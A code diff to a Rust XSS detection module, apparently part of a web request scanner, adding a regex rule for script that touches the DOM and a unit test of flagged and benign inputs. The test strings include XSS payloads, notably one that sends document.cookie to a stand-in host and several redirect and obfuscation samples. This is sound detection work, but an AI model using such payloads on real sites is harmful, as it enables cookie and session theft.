@@ -146,6 +146,10 @@ impl Xss {
             // wrapped around a word. (A raw 0xBC byte is not UTF-8 and reads as U+FFFD, like any
             // Latin-1 letter, so only the characters themselves count.)
             ("\u{bc}/?[a-z][a-z0-9]*[^\u{bc}\u{be}<>]{0,100}\u{be}", High, 0.75, "US-ASCII encoded tag"),
+            // The cookie read into an expression, a document written, the page sent elsewhere, a
+            // string built from character codes, a global indexed by a call (`self[atob(..)]`):
+            // a page's script at work, which a sentence that names `document.cookie` is not.
+            (r#"document\s*\.\s*(?:cookie|domain)\s*[;+)\],]|[=+(,]\s*document\s*\.\s*(?:cookie|domain)\b|document\s*\.\s*write(?:ln)?\s*\(|(?:window|document|top|self|parent)\s*\.\s*location(?:\s*\.\s*href)?\s*=[^=]|\blocation\s*\.\s*href\s*=[^=]|\bstring\s*\.\s*fromcharcode\s*\(|\b(?:self|top|parent|frames|window|globalthis)\s*\[\s*[a-z_$][\w$]*\s*\("#, High, 0.7, "script reaching the DOM"),
         ];
         Ok(Xss { rules: Rules::new(Family::Xss, &table)?, strict_rules: Rules::new(Family::Xss, &strict)? })
     }
@@ -246,6 +250,19 @@ impl Check for Xss {
 #[cfg(test)]
 mod tests {
     use super::super::testing::*;
+
+    #[test]
+    fn script_reaching_the_dom_outside_json_text() {
+        use crate::fields::Part;
+        for v in ["x'+document.cookie+'", "new Image().src='//e.example/?'+document.cookie", "document.write('<b>x</b>')", "window.location='//e.example'", "top.location.href = '//e.example'", "String.fromCharCode(88,83,83)", "self[atob('YWxlcnQ=')](1)"] {
+            assert!(flags("attack.xss", v), "{v}");
+            assert!(flags_at("attack.xss", Part::Body, v), "{v} in a form");
+        }
+        for v in ["see the document.cookie policy page", "location.href docs", "window location", "self [note]"] {
+            assert!(!flags("attack.xss", v), "{v}");
+        }
+        assert!(!any_flag_in_json("Call document.write(html) only before the page loads"), "a code sample in a JSON text field");
+    }
 
     #[test]
     fn embedded_content_in_a_json_body_needs_script() {
